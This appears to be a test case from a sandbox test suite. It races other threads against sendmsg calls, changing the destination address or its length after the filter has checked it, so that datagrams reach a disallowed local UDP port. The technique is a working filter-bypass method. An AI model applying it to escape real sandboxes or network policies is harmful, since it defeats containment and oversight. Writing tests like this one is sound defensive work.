# SPDX-License-Identifier: Apache-2.0
# attack: sendmsg whose name another thread fills in, or points elsewhere, after the check
# class: net
# wins: net
# needs: race
# options: --connect 127.0.0.1:%{service4} --connect udp:127.0.0.1:%{service_udp}
from kit import *

import socket
def sockaddr(port):
    return struct.pack('<H', 2) + struct.pack('>H', port) + bytes([127, 0, 0, 1]) + bytes(8)


names = ctypes.create_string_buffer(sockaddr(F['service_udp']) + sockaddr(F['udp4']), 32)
data = ctypes.create_string_buffer(b'x')
iov = ctypes.create_string_buffer(struct.pack('<QQ', address(data), 1))
msg = ctypes.create_string_buffer(struct.pack('<QQQQQQQ', address(names), 16, address(iov), 1, 0, 0, 0), 64)
bare = ctypes.create_string_buffer(struct.pack('<QQQQQQQ', address(names) + 16, 0, address(iov), 1, 0, 0, 0), 64)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tried()
f = Flipper(address(msg), (address(names) ^ address(names) + 16) & 255)
g = Flipper(address(bare) + 8, 16)


def one(i):
    sc('sendmsg', s.fileno(), msg, 0)
    sc('sendmsg', s.fileno(), bare, 0)
    return NATIVE and i > 2000


rounds(one)
f.end()
g.end()
